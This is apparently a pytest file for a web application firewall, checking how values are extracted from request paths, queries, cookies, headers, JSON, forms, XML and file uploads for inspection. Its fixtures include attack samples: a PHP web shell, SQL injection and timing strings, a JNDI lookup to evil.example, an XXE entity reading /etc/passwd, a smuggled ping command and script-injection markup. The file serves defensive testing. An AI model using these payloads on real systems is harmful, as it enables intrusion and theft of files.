"""Zones: values extracted where they live, with their names."""

from __future__ import annotations

import base64
import json

from bastion.detect.signatures.zones import (
    ZoneOptions,
    maybe_base64,
    request_body_values,
    request_head_values,
    response_values,
)
from bastion.exchange import Headers, Request


def req(target: str = "/", headers: list[tuple[str, str]] | None = None, body: bytes = b"") -> Request:
    return Request("POST", target, Headers(headers or []), body=body)


def labels(values) -> set[tuple[str, str, str]]:
    return {(v.zone, v.label, v.raw) for v in values}


def test_head_values_name_every_place() -> None:
    r = req("/api/items?q=hello&tags=a&tags=b", [("Host", "x"), ("User-Agent", "ua/1"),
                                                  ("Cookie", "sid=abc; theme=dark"), ("Accept", "*/*"),
                                                  ("X-Custom", "v")])
    got = labels(request_head_values(r, ZoneOptions()))
    assert ("path", "path", "/api/items") in got
    assert ("args", "query:q", "hello") in got
    assert ("args", "query:tags", "b") in got  # duplicates kept (parameter pollution)
    assert not any(z == "arg_names" for z, _, _ in got)  # plain identifiers are not inspected as names
    names = labels(request_head_values(req("/?a[$ne]=1&__proto__[x]=1"), ZoneOptions()))
    assert ("arg_names", "query:a[$ne]", "a[$ne]") in names
    assert ("arg_names", "query:__proto__[x]", "__proto__[x]") in names
    assert ("cookies", "cookie:sid", "abc") in got
    assert ("headers", "header:user-agent", "ua/1") in got
    assert ("headers", "header:x-custom", "v") in got
    assert not any(lbl == "header:accept" or lbl == "header:host" for _, lbl, _ in got)


def test_json_values_carry_their_path() -> None:
    body = json.dumps({"user": {"name": "O'Brien", "tags": ["a", "b"], "age": 3}, "note": "hi"}).encode()
    got = labels(request_body_values(req(headers=[("Content-Type", "application/json")], body=body), ZoneOptions()))
    assert ("args", "json:user.name", "O'Brien") in got
    assert ("args", "json:user.tags", "b") in got
    body2 = json.dumps({"password": {"$ne": None}, "a": {"__proto__": {"x": 1}}}).encode()
    names = labels(request_body_values(req(headers=[("Content-Type", "application/json")], body=body2), ZoneOptions()))
    assert ("arg_names", "json:password.$ne", "password.$ne") in names  # keys are inspected with their path
    assert ("arg_names", "json:a.__proto__", "a.__proto__") in names
    assert ("args", "json:note", "hi") in got
    assert not any(raw == "3" for _, _, raw in got if _ == "args")  # numbers carry no injection


def test_a_bare_key_is_inspected_even_when_plain() -> None:
    # `?information_schema` or a form body sent as one word: the key is the whole value
    got = labels(request_head_values(req("/?information_schema&page=2"), ZoneOptions()))
    assert ("arg_names", "query:information_schema", "information_schema") in got
    assert not any(raw == "page" for z, _, raw in got if z == "arg_names")
    got = labels(request_body_values(req(headers=[("Content-Type", "application/x-www-form-urlencoded")],
                                         body=b"tempdb"), ZoneOptions()))
    assert ("arg_names", "form:tempdb", "tempdb") in got


def test_deep_json_does_not_recurse_forever() -> None:
    body = ("[" * 5000 + "]" * 5000).encode()
    vals = request_body_values(req(headers=[("Content-Type", "application/json")], body=body), ZoneOptions())
    assert vals  # parsed or inspected raw, never a crash


def test_form_and_unknown_bodies() -> None:
    got = labels(request_body_values(req(headers=[("Content-Type", "application/x-www-form-urlencoded")],
                                         body=b"a=1+2&b=%3Cx%3E"), ZoneOptions()))
    assert ("args", "form:a", "1 2") in got and ("args", "form:b", "<x>") in got
    got = labels(request_body_values(req(headers=[("Content-Type", "text/plain")], body=b"free text"), ZoneOptions()))
    assert ("args", "body", "free text") in got


def test_multipart_fields_and_filenames() -> None:
    body = (b"--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nhello\r\n"
            b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"shell.php\"\r\n"
            b"Content-Type: application/octet-stream\r\n\r\n<?php system($_GET['c']); ?>\r\n--XyZ--\r\n")
    got = labels(request_body_values(req(headers=[("Content-Type", "multipart/form-data; boundary=XyZ")], body=body),
                                     ZoneOptions()))
    assert ("args", "multipart:title", "hello") in got
    assert ("filenames", "multipart:file", "shell.php") in got
    # file bytes are not inspected by default, except a PHP open tag and what follows it (a web shell)
    assert [raw for z, _, raw in got if z == "args" and "system" in raw] == ["<?php system($_GET['c']); ?>"]
    plain = body.replace(b"<?php system($_GET['c']); ?>", b"\x89PNG\r\n system of record")
    got_plain = labels(request_body_values(req(headers=[("Content-Type", "multipart/form-data; boundary=XyZ")],
                                               body=plain), ZoneOptions()))
    assert not any("system" in raw for z, _, raw in got_plain if z == "args")
    opts = ZoneOptions(multipart_file_content=True)
    body2 = body.replace(b"application/octet-stream", b"text/plain")
    got2 = labels(request_body_values(req(headers=[("Content-Type", "multipart/form-data; boundary=XyZ")],
                                          body=body2), opts))
    assert any("system" in raw for z, _, raw in got2 if z == "args")


def test_xml_text_and_attributes() -> None:
    body = b'<?xml version="1.0"?><root><a probe="x1">text one</a><![CDATA[cdata here]]></root>'
    got = labels(request_body_values(req(headers=[("Content-Type", "application/xml")], body=body), ZoneOptions()))
    assert ("args", "xml:a@probe", "x1") in got
    assert ("args", "xml:text", "text one") in got
    assert ("args", "xml:cdata", "cdata here") in got
    assert any(z == "body" for z, _, _ in got)  # the raw body too, for XXE


def test_base64_values_are_decoded_when_text() -> None:
    enc = base64.b64encode(b"' OR 1=1 -- and more text").decode()
    assert maybe_base64(enc) == "' OR 1=1 -- and more text"
    assert maybe_base64("administratorpassword") is None  # a word, not an encoding
    assert maybe_base64(base64.b64encode(bytes(range(256))).decode()) is None  # binary
    got = labels(request_head_values(req(f"/?t={enc}"), ZoneOptions()))
    assert ("args", "query:t(base64)", "' OR 1=1 -- and more text") in got


def test_value_cap_keeps_the_rest_as_one_value() -> None:
    target = "/?" + "&".join(f"k{i}=v{i}" for i in range(100))
    vals = request_head_values(req(target), ZoneOptions(max_values=20))
    assert len(vals) == 21
    assert vals[-1].name == "(overflow)" and "v99" in vals[-1].raw


def test_binary_responses_are_skipped() -> None:
    assert response_values(b"\x89PNG...", "image/png") == []
    assert response_values(b"<html>", "text/html")[0].raw == "<html>"


def test_unusual_path_segments_are_also_inspected_one_by_one() -> None:
    got = labels(request_head_values(req("/get/if(now()=sysdate(),sleep(12),0)/x"), ZoneOptions()))
    assert ("path", "path", "/get/if(now()=sysdate(),sleep(12),0)/x") in got
    assert ("path", "path:segment", "if(now()=sysdate(),sleep(12),0)") in got
    plus = labels(request_head_values(req("/post/24'union+all+select+1/bar"), ZoneOptions()))
    assert ("path", "path:segment", "24'union all select 1") in plus  # `+` read as a space, too
    plain = request_head_values(req("/api/v2/users/42/orders/a-b_c.json"), ZoneOptions())
    assert [v.label for v in plain if v.zone == "path"] == ["path"]  # ordinary names: the path alone


def test_session_id_parameters_are_inspected_unless_the_site_links_to_itself() -> None:
    def names(headers: list[tuple[str, str]]) -> set[str]:
        vals = request_head_values(req("/login?jsessionid=abc&page=2", headers), ZoneOptions())
        return {v.raw for v in vals if v.zone == "arg_names"}

    assert names([("Host", "shop.example")]) == {"jsessionid"}  # typed in or from a mail: fixation link
    assert names([("Host", "shop.example"), ("Referer", "https://evil.example/x")]) == {"jsessionid"}
    assert names([("Host", "shop.example:8443"), ("Referer", "https://shop.example:8443/cart")]) == set()
    cookie_only = request_head_values(req("/", [("Cookie", "JSESSIONID=abc")]), ZoneOptions())
    assert not [v for v in cookie_only if v.zone == "arg_names"]  # a session cookie is ordinary
    cookies = request_head_values(req("/", [("Cookie", "connect.sid=s%3Aa; _shop_session=x; __Host-next-auth"
                                                        ".session-token=t")]), ZoneOptions())
    assert not [v for v in cookies if v.zone == "arg_names"]  # plain or not, as cookies they are ordinary
    same_site = [("Host", "shop.example"), ("Referer", "https://shop.example/")]
    linked = request_head_values(req("/a?next-auth.session-token=t&sessionid=1", same_site), ZoneOptions())
    assert not [v for v in linked if v.zone == "arg_names"]
    target = "/login?__Secure-next-auth.session-token=t&session-id=1&_shop_session=2"
    planted = request_head_values(req(target, [("Accept", "text/html,*/*;q=0.8")]), ZoneOptions())
    assert {v.raw for v in planted if v.zone == "arg_names"} == {"__Secure-next-auth.session-token", "session-id",
                                                                 "_shop_session"}
    api_client = request_head_values(req(target, [("Accept", "application/json")]), ZoneOptions())
    assert {v.raw for v in api_client if v.zone == "arg_names"} == {"__Secure-next-auth.session-token"}
    from_elsewhere = request_head_values(req(target, [("Referer", "https://mail.example/")]), ZoneOptions())
    assert len([v for v in from_elsewhere if v.zone == "arg_names"]) == 3


def test_json_keys_that_are_framework_session_names_are_inspected_generic_ones_are_data() -> None:
    doc = {"phpsession": "x", "session_id": "y", "_shop_session": "w", "user": {"jsessionid": "z"}}
    body = json.dumps(doc).encode()
    vals = request_body_values(req(headers=[("Content-Type", "application/json")], body=body), ZoneOptions())
    assert {v.raw for v in vals if v.zone == "arg_names"} == {"phpsession"}
    same_site = [("Content-Type", "application/json"), ("Host", "a.example"), ("Referer", "https://a.example/")]
    vals = request_body_values(req(headers=same_site, body=body), ZoneOptions())
    assert not [v for v in vals if v.zone == "arg_names"]


def test_an_unencoded_ampersand_inside_a_query_value_is_also_inspected_whole() -> None:
    got = labels(request_head_values(req("/x?ip=127.0.0.1&&ping+-c+10+127.0.0.1&b=2"), ZoneOptions()))
    assert ("args", "query:ip", "127.0.0.1") in got
    assert ("args", "query:ip", "127.0.0.1&&ping -c 10 127.0.0.1") in got
    assert ("args", "query:b", "2") in got
    plain = request_head_values(req("/x?a=1&b=2&c"), ZoneOptions())
    assert [v.raw for v in plain if v.zone == "args"] == ["1", "2", "2&c"]  # a bare flag joins its neighbour


def test_credentials_are_inspected_unless_they_are_a_plain_token() -> None:
    jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl"
    for plain in (f"Bearer {jwt}", "Basic dXNlcjpwYXNz", "sk_live_51HxYz", "Bearer ya29.a0Af/b+c=="):
        got = labels(request_head_values(req("/", [("Authorization", plain)]), ZoneOptions()))
        assert not any(lbl == "header:authorization" for _, lbl, _ in got)  # nothing an injection needs
    for value in ("Bearer ${jndi:ldap://evil.example/a}", "Basic ' OR 1=1--", 'Digest username="x", uri="/a"'):
        got = labels(request_head_values(req("/", [("Authorization", value)]), ZoneOptions()))
        assert ("headers", "header:authorization", value) in got


def test_uploaded_xml_documents_are_read_as_a_body() -> None:
    svg = b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
    for ctype, name in ((b"image/svg+xml", b"logo.svg"), (b"application/octet-stream", b"feed.bin")):
        body = (b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + name + b"\"\r\n"
                b"Content-Type: " + ctype + b"\r\n\r\n" + svg + b"\r\n--XyZ--\r\n")
        got = labels(request_body_values(req(headers=[("Content-Type", "multipart/form-data; boundary=XyZ")],
                                             body=body), ZoneOptions()))
        assert ("body", "multipart:file", svg.decode()) in got  # the DOCTYPE reaches the XXE rules
        assert not any(z == "args" and "ENTITY" in raw for z, _, raw in got)  # file bytes are still no args
    png = (b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.png\"\r\n"
           b"Content-Type: image/png\r\n\r\n\x89PNG\r\n--XyZ--\r\n")
    got = labels(request_body_values(req(headers=[("Content-Type", "multipart/form-data; boundary=XyZ")], body=png),
                                     ZoneOptions()))
    assert not any(z == "body" for z, _, _ in got)


def test_markup_uploads_give_their_scripted_parts() -> None:
    """An uploaded SVG or HTML file served back from the origin runs its scripts: script elements
    and scripted attributes are inspected by default, the rest of the document is not."""

    def upload(filename: str, ctype: str, content: bytes) -> list[tuple[str, str, str]]:
        body = (b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + filename.encode()
                + b"\"\r\nContent-Type: " + ctype.encode() + b"\r\n\r\n" + content + b"\r\n--XyZ--\r\n")
        return [(z, n, raw) for z, n, raw in labels(request_body_values(
            req(headers=[("Content-Type", "multipart/form-data; boundary=XyZ")], body=body), ZoneOptions()))
            if z == "args"]

    svg = upload("x.svg", "image/svg+xml",
                 b'<svg xmlns="http://www.w3.org/2000/svg"><rect/><g onload="alert(1)"/></svg>')
    assert [raw for _, _, raw in svg] == ['<g onload="alert(1)"/>']
    html = upload("page.html", "text/html", b"<html><head><meta charset=utf-8><style>p{}</style></head>"
                                             b"<body><p>hi</p><script>steal()</script></body></html>")
    assert [raw for _, _, raw in html] == ["<script>steal()"]
    icon = upload("icon.svg", "image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"><style>.a{fill:#333}</style>'
                                                b'<path class="a" d="M3 5h18v2H3z"/><a href="https://example.com">x</a></svg>')
    assert icon == []


def test_repeated_query_parameters_are_also_joined() -> None:
    """HTTP parameter pollution: a name given more than once is also read joined by commas."""
    r = req(target="/p?id=1/**/union/*&id=*/select/*&id=*/1&tag=a")
    got = labels(request_head_values(r, ZoneOptions()))
    assert ("args", "query:id", "1/**/union/*,*/select/*,*/1") in got
    assert not any(raw.count(",") for z, n, raw in got if n == "query:tag")


def test_a_key_path_given_as_an_array_is_read_as_a_dotted_path() -> None:
    body = json.dumps({"path": ["constructor", "prototype", "polluted"], "tags": ["design", "ux"]}).encode()
    got = labels(request_body_values(req(headers=[("Content-Type", "application/json")], body=body), ZoneOptions()))
    assert ("arg_names", "json:path", "constructor.prototype.polluted") in got
    assert not any(z == "arg_names" and n == "json:tags" for z, n, _ in got)
